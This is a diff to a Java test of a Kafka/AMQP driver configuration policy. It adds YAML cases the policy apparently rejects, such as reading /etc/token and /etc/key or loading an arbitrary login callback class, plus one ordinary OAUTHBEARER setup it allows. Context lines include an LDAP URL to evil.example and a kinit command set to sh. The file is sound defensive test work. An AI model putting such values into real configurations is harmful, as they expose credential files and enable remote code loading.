@@ -57,6 +57,11 @@ class DriverPolicyTest {
         "commonConfig: {sasl.jaas.config: 'org.apache.kafka.common.security.plain.PlainLoginModule"
             + " required url=\"ldap://evil.example/x\";'}",
         "commonConfig: {sasl.kerberos.kinit.cmd: sh}",
+        "commonConfig: {sasl.oauthbearer.token.endpoint.url: 'file:/etc/token'}",
+        "commonConfig: {sasl.oauthbearer.assertion.private.key.file: /etc/key}",
+        "commonConfig: {sasl.oauthbearer.jwt.retriever.class:"
+            + " org.apache.kafka.common.security.oauthbearer.FileJwtRetriever}",
+        "commonConfig: {sasl.login.callback.handler.class: evil.Handler}",
         "tls: {ca: lib/../../../../dev/zero}",
         "tls: {ca: authority.pem}",
         "anything: lib/../../../../dev/zero",
@@ -91,6 +96,11 @@ class DriverPolicyTest {
             + " required \\\n    username=\"a\" \\\n    password=\"b\";\n  acks=all",
         "amqpUris: ['amqp://user:pa=ss@host/bench']",
         "oauth: {tokenUri: 'https://host/token?tenant=1'}",
+        "commonConfig: {sasl.mechanism: OAUTHBEARER, sasl.oauthbearer.token.endpoint.url:"
+            + " 'https://host/token', sasl.login.callback.handler.class:"
+            + " org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginCallbackHandler,"
+            + " sasl.jaas.config: 'org.apache.kafka.common.security.oauthbearer."
+            + "OAuthBearerLoginModule required clientId=\"a\" clientSecret=\"b\";'}",
       })
   void allowsWhatDriversOrdinarilyNeed(String yaml) {
     assertThatCode(() -> check(DriverPolicy.STRICT, yaml)).doesNotThrowAnyException();
